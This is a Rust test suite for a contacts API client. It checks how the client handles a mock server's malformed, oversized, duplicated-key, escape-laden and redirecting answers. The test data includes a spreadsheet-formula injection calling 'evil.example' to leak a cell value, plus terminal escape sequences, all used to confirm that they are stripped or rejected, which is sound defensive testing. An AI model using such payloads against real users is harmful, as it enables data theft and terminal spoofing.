//! The client against a server that answers badly on purpose: wrong types,
//! missing and extra fields, non-JSON pages, huge bodies, escapes in
//! messages, redirects to another host.

use std::net::{Ipv4Addr, SocketAddr};
use std::sync::{Arc, Mutex};

use axum::Router;
use axum::http::{HeaderMap, StatusCode, header};
use axum::response::IntoResponse;
use axum::routing::any;
use reqwest::Url;
use ryze_contacts::api::{ApiClient, ApiError, BlockOutcome, ClientConfig, Endpoint};
use ryze_contacts::util::secret::Token;

/// One canned answer: status, content type, body, optional Location.
#[derive(Clone)]
struct Canned {
    status: u16,
    content_type: &'static str,
    body: String,
    location: Option<String>,
}

fn json(status: u16, body: &str) -> Canned {
    Canned {
        status,
        content_type: "application/json",
        body: body.to_string(),
        location: None,
    }
}

/// A server that answers every request with the canned answer and counts
/// the requests that carried a `token` header.
async fn serve(answer: Canned) -> (Url, Arc<Mutex<u32>>) {
    let tokens_seen = Arc::new(Mutex::new(0u32));
    let seen = tokens_seen.clone();
    let app = Router::new().fallback(any(move |headers: HeaderMap| {
        let answer = answer.clone();
        let seen = seen.clone();
        async move {
            if headers.contains_key("token") {
                *seen.lock().unwrap() += 1;
            }
            let mut response = (
                StatusCode::from_u16(answer.status).unwrap(),
                [(header::CONTENT_TYPE, answer.content_type)],
                answer.body,
            )
                .into_response();
            if let Some(location) = answer.location {
                response
                    .headers_mut()
                    .insert(header::LOCATION, location.parse().unwrap());
            }
            response
        }
    }));
    let listener = tokio::net::TcpListener::bind(SocketAddr::from((Ipv4Addr::LOCALHOST, 0)))
        .await
        .unwrap();
    let url = Url::parse(&format!("http://{}", listener.local_addr().unwrap())).unwrap();
    tokio::spawn(async move {
        let _ = axum::serve(listener, app).await;
    });
    (url, tokens_seen)
}

fn client(max_body_bytes: usize) -> ApiClient {
    ApiClient::new(ClientConfig {
        max_body_bytes,
        ..ClientConfig::default()
    })
    .unwrap()
}

async fn contacts(answer: Canned) -> Result<usize, ApiError> {
    let (url, _) = serve(answer).await;
    let token = Token::new("t");
    let ep = Endpoint {
        base_url: &url,
        token: &token,
    };
    client(1 << 20)
        .contacts(ep, "sales")
        .await
        .map(|r| r.value.len())
}

async fn block(answer: Canned) -> Result<BlockOutcome, ApiError> {
    let (url, _) = serve(answer).await;
    let token = Token::new("t");
    let ep = Endpoint {
        base_url: &url,
        token: &token,
    };
    client(1 << 20)
        .block(ep, "sales", "5511999999999", true)
        .await
        .map(|r| r.value)
}

#[tokio::test]
async fn wrong_types_and_missing_fields_are_malformed() {
    for body in [
        r#"{"success": true, "contacts": "nope"}"#,
        r#"[1, 2, 3]"#,
        r#"not json at all"#,
    ] {
        let e = contacts(json(200, body)).await.unwrap_err();
        assert!(matches!(e, ApiError::Malformed { .. }), "{body}: {e:?}");
    }
    for body in [
        r#"{"success": true, "blocked": "yes"}"#,
        r#"{"success": true, "contact_jid": "1@s.whatsapp.net"}"#,
    ] {
        let e = block(json(200, body)).await.unwrap_err();
        assert!(matches!(e, ApiError::Malformed { .. }), "{body}: {e:?}");
    }
}

#[tokio::test]
async fn rows_that_are_not_contacts_are_skipped_and_the_rest_loads() {
    let body = r#"{"success": true, "contacts": [
        {"full_name": "no jid"},
        {"jid": 42},
        7, "text", [1], null,
        {"jid": "=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")@lid"},
        {"jid": "\u001b[2J@s.whatsapp.net"},
        {"jid": "5511999990001@s.whatsapp.net", "full_name": 12, "lid": "=1+1@lid"},
        {"jid": "5511999990002@s.whatsapp.net", "first_name": "Ana", "lid": "42@lid"}
    ]}"#;
    assert_eq!(contacts(json(200, body)).await.unwrap(), 2);
    let store = ryze_contacts::api::contacts::parse_store(body.as_bytes()).unwrap();
    assert_eq!((store.len(), store.skipped()), (2, 8));
    let first = store.get(0).unwrap();
    assert_eq!(
        (first.name(), first.lid()),
        ("", None),
        "bad fields dropped, row kept"
    );
    assert_eq!(store.get(1).unwrap().lid(), Some("42@lid"));
}

#[tokio::test]
async fn one_name_that_is_not_utf8_does_not_lose_the_list() {
    let mut body =
        br#"{"success": true, "contacts": [{"jid": "1@s.whatsapp.net", "full_name": "Jo"#.to_vec();
    body.extend_from_slice(&[0xC3, 0x28, 0xFF]);
    body.extend_from_slice(br#"o"}, {"jid": "2@s.whatsapp.net", "full_name": "Ana"}]}"#);
    let store = ryze_contacts::api::contacts::parse_store(&body).unwrap();
    assert_eq!(store.len(), 2);
    assert_eq!(store.get(0).unwrap().name(), "Jo\u{FFFD}(\u{FFFD}o");
    assert_eq!(store.get(1).unwrap().name(), "Ana");
}

#[tokio::test]
async fn extra_fields_and_nulls_are_fine() {
    let n = contacts(json(
        200,
        r#"{"success": true, "total": 2, "page": 1, "contacts": [
            {"jid": "1@s.whatsapp.net", "full_name": null, "lid": null, "avatar": {"x": 1}},
            {"jid": "2@s.whatsapp.net", "verified": true, "first_name": "A"}
        ]}"#,
    ))
    .await
    .unwrap();
    assert_eq!(n, 2);
    // No contacts key at all, or null: an empty address book.
    assert_eq!(
        contacts(json(200, r#"{"success": true, "contacts": null}"#))
            .await
            .unwrap(),
        0
    );
    let answer = block(json(
        200,
        r#"{"blocked": true, "contact_jid": "5511999999999@s.whatsapp.net", "blocked_count": null, "extra": [1]}"#,
    ))
    .await
    .unwrap();
    assert!(answer.blocked);
    assert_eq!(answer.blocked_count, None);
}

#[tokio::test]
async fn a_block_answer_that_names_no_contact_is_malformed() {
    for body in [
        r#"{"success": true, "blocked": true, "blocked_count": 3}"#,
        r#"{"success": true, "blocked": true, "contact_jid": null}"#,
        r#"{"success": true, "blocked": true, "contact_jid": ""}"#,
        r#"{"success": true, "blocked": true, "contact_jid": " \u0007 "}"#,
    ] {
        let e = block(json(200, body)).await.unwrap_err();
        assert!(matches!(e, ApiError::Malformed { .. }), "{body}: {e:?}");
    }
}

#[tokio::test]
async fn an_answer_with_a_key_twice_is_malformed_not_a_success() {
    for body in [
        r#"{"success": false, "success": true, "contact_jid": "5511999999999@s.whatsapp.net", "blocked": true}"#,
        r#"{"success": true, "contact_jid": "5511999999999@s.whatsapp.net", "blocked": false, "blocked": true}"#,
    ] {
        let e = block(json(200, body)).await.unwrap_err();
        assert!(matches!(e, ApiError::Malformed { .. }), "{body}: {e:?}");
        assert!(e.to_string().contains("appears twice"), "{e}");
    }
}

#[tokio::test]
async fn half_an_emoji_in_one_name_keeps_every_contact() {
    let body = r#"{"success": true, "contacts": [
        {"jid": "5511999990001@s.whatsapp.net", "full_name": "Cut \ud83d"},
        {"jid": "5511999990002@s.whatsapp.net", "full_name": "Ana \ud83d\ude00", "push_name": "\ude00 low"},
        {"jid": "5511999990003@s.whatsapp.net", "full_name": "Bruno"}
    ]}"#;
    assert_eq!(contacts(json(200, body)).await.unwrap(), 3);
    let store = ryze_contacts::api::contacts::parse_store(body.as_bytes()).unwrap();
    assert_eq!(store.len(), 3);
    assert_eq!(store.get(0).unwrap().name(), "Cut \u{FFFD}");
    assert_eq!(store.get(1).unwrap().name(), "Ana 😀");
    assert_eq!(store.get(2).unwrap().name(), "Bruno");
    let answer = block(json(
        200,
        r#"{"contact_jid": "5511999999999@s.whatsapp.net", "blocked": true, "message": "ok \udc00"}"#,
    ))
    .await
    .unwrap();
    assert_eq!(answer.message, "ok \u{FFFD}");
}

#[tokio::test]
async fn success_false_with_200_is_an_error() {
    let e = contacts(json(
        200,
        r#"{"success": false, "error": {"message": "Boom"}}"#,
    ))
    .await
    .unwrap_err();
    assert_eq!(e.server_message(), Some("Boom"));
    let e = contacts(json(200, r#"{"success": false}"#))
        .await
        .unwrap_err();
    assert!(e.server_message().unwrap().contains("without a message"));
}

#[tokio::test]
async fn non_json_pages() {
    let html = |status| Canned {
        status,
        content_type: "text/html",
        body: "<html><h1>Bad Gateway</h1></html>".into(),
        location: None,
    };
    assert_eq!(
        contacts(html(502)).await.unwrap_err(),
        ApiError::Unreachable { status: 502 }
    );
    assert_eq!(
        contacts(html(504)).await.unwrap_err(),
        ApiError::Unreachable { status: 504 }
    );
    let e = contacts(html(500)).await.unwrap_err();
    assert_eq!(e.status(), Some(500));
    assert!(matches!(
        contacts(html(200)).await.unwrap_err(),
        ApiError::Malformed { .. }
    ));
    let e = contacts(json(200, "")).await.unwrap_err();
    assert_eq!(e.to_string(), "unexpected answer: empty body");
}

#[tokio::test]
async fn bodies_over_the_cap_are_refused() {
    let big = format!(
        r#"{{"success": true, "contacts": [{}]}}"#,
        vec![r#"{"jid": "1@s.whatsapp.net", "full_name": "xxxxxxxxxxxxxxxx"}"#; 40_000].join(",")
    );
    assert!(big.len() > 1 << 20);
    let e = contacts(json(200, &big)).await.unwrap_err();
    assert_eq!(e.to_string(), "answer larger than 1 MB");
}

#[tokio::test]
async fn escapes_in_server_messages_are_removed() {
    let e = contacts(json(
        401,
        r#"{"success": false, "error": {"message": "Invalid\u001b[2J token\u0007\u202e"}}"#,
    ))
    .await
    .unwrap_err();
    assert_eq!(e.server_message(), Some("Invalid[2J token"));
    let reply = block(json(
        200,
        r#"{"blocked": true, "message": "ok\u001b]0;pwned\u0007", "contact_jid": "1@lid\u0085"}"#,
    ))
    .await
    .unwrap();
    assert_eq!(reply.message, "ok]0;pwned");
    assert_eq!(reply.contact_jid, "1@lid");
}

#[tokio::test]
async fn redirects_never_carry_the_token_elsewhere() {
    let (elsewhere, seen_elsewhere) =
        serve(json(200, r#"{"success": true, "contacts": []}"#)).await;
    let e = contacts(Canned {
        status: 302,
        content_type: "text/plain",
        body: String::new(),
        location: Some(format!("{elsewhere}api/chat/contacts/sales")),
    })
    .await
    .unwrap_err();
    assert_eq!(e.status(), Some(302));
    assert!(e.hint().contains("redirect"), "{}", e.hint());
    assert_eq!(
        *seen_elsewhere.lock().unwrap(),
        0,
        "the other host never saw the token"
    );
}
